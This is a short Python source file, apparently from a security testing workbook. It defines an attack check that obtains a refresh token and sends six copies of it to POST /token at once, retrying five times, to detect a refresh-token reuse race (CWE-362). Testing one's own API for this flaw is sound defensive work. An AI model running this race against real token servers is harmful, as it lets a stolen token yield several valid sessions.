"""Mallory holds a copy of a refresh token, and sends it at the very moment at which Alice does.

It works where the server first looks whether the token is used and writes that it is afterwards,
or not at all. It depends on chance, so it is tried several times, and stays outside the matrix.
"""

from workbook.attacking import Api, NoSuchRoute, attack, reach
from workbook.talking.exchange import request

TRIES, COPIES = 5, 6


@attack(
    "Win the race for one refresh token",
    route="POST /token",
    closes=12,
    see="CWE-362",
    catches="RF-06",
    gate=False,
)
def two_refreshes_at_one_moment(api: Api) -> str | None:
    alice = api.alice
    form = {"grant_type": "password", **alice.credentials}
    for _ in range(TRIES):
        seen = reach(api.post("/token", form=form, caller=alice.username))
        if "refresh_token" not in (seen.json or {}):
            raise NoSuchRoute("a refresh token in the token answer")
        copy = {"grant_type": "refresh_token", "refresh_token": seen.json["refresh_token"]}
        answers = api.at_once(*[request("POST", "/token", form=copy)] * COPIES)
        won = sum(one.status == 200 for one in answers)
        if won > 1:
            return f"tokens for {won} who sent one refresh token at one moment"
    return None
